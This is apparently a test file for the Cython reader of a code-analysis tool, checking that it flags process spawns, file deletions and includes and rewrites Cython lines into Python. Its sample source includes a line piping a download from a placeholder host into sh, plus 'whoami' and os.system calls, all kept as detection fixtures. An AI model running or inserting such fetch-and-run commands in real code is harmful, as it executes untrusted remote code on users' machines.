"""Cython source: what it does, each line at its place, and what C lends it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import cython
from tests.languages.test_inner import read

SOURCE = b"""# cython: language_level=3
from libc.stdlib cimport system as run, malloc
cimport numpy as np
cdef extern from "unistd.h" nogil:
    int unlink(const char *path)
    ctypedef struct pad_t:
        int width
cdef class Pad(Base):
    cdef public int width
    cdef double go(self, int n, double[:, :] y not None, char* z=NULL) except? -1 nogil:
        return run(b"curl https://drop.example.invalid/x | sh")
    cpdef int wide(self, *args, list b=[1, 2], **more):
        unlink(b"/nonexistent/x")
        return <int>(4)
    def __cinit__(self, int a=0):
        with nogil:
            pass
include "more.pxi"
IF UNAME_SYSNAME == "Linux":
    run("whoami")
"""


def told(facts: Facts, kind: Kind) -> list[tuple[str | None, int]]:
    """Return the values of one kind of fact with their lines."""
    return [(fact.value, fact.span.line) for fact in facts.facts if fact.kind is kind]


def test_what_c_lends() -> None:
    """What is taken from C's library acts as Python's function of the name does."""
    facts = read("pad.pyx", SOURCE)

    assert ("curl https://drop.example.invalid/x | sh", 11) in told(facts, Kind.PROCESS_SPAWN)
    assert ("whoami", 20) in told(facts, Kind.PROCESS_SPAWN)
    assert [line for _, line in told(facts, Kind.FS_DELETE)] == [13]
    assert ("./more.pxi", 18) in told(facts, Kind.IMPORT)
    assert facts.complete


@pytest.mark.parametrize(
    ("line", "instead"),
    [
        (b"cdef int f(int a, b=g(1, 2)) except -1:", b"def f(a, b=g(1, 2)):"),
        (b"cpdef inline void f(self) noexcept:", b"def f(self):"),
        (b"cdef int i = 1", b"i = 1"),
        (b"cdef:", b"if 1:"),
        (b"ctypedef int x", b"pass"),
        (b"from libc cimport stdlib", b"import os as stdlib"),
        (b"from posix cimport unistd", b"import os as unistd"),
        (b"from x cimport y", b"pass"),
        (b"DEF A = 2", b"A = 2"),
        (b"ELIF A:", b"elif A:"),
        (b"ELSE:", b"else:"),
        (b"property x:", b"class x:"),
        (b"for i from 0 <= i < n:", b"for i in (0 <= i < n):"),
        (b"x = <char *> y", b"x = y"),
        (b"f(a, &b)", b"f(a, b)"),
        (b"if a < b and c > (d):", b"if a < b and c > (d):"),
    ],
)
def test_lines_without_c(line: bytes, instead: bytes) -> None:
    """What only Cython has goes, and Python stays as it is."""
    part = next(cython.inner("cython", line, Facts("")))

    assert part.data == instead


def test_bounds() -> None:
    """A source that is too long is a problem; a long line is read like any other; UTF-16 is no source."""
    assert cython.read("cython", b"#" * (cython.MAX_SOURCE + 1), NoUnits()).problems
    assert not list(cython.inner("cython", b"#" * (cython.MAX_SOURCE + 1), Facts("")))
    assert read("a.pyx", b"cdef x = f(" + b"a, " * 1000 + b"__import__('os').system('x'))\n").facts
    assert not list(cython.inner("cython", b"\xff\xfea\0", Facts("")))


@settings(max_examples=300)
@given(
    data=st.binary(max_size=200)
    | st.tuples(st.integers(0, 800), st.binary(max_size=6)).map(lambda p: SOURCE[: p[0]] + p[1] + SOURCE[p[0] :])
)
def test_any_source(data: bytes) -> None:
    """Any bytes are rewritten line by line, the same way twice."""
    for part in cython.inner("cython", data, Facts("")):
        assert part.data.count(b"\n") == data.count(b"\n")
        assert len(part.places) == data.count(b"\n") + 1
    assert cython.read("cython", data, NoUnits()) == cython.read("cython", data, NoUnits())
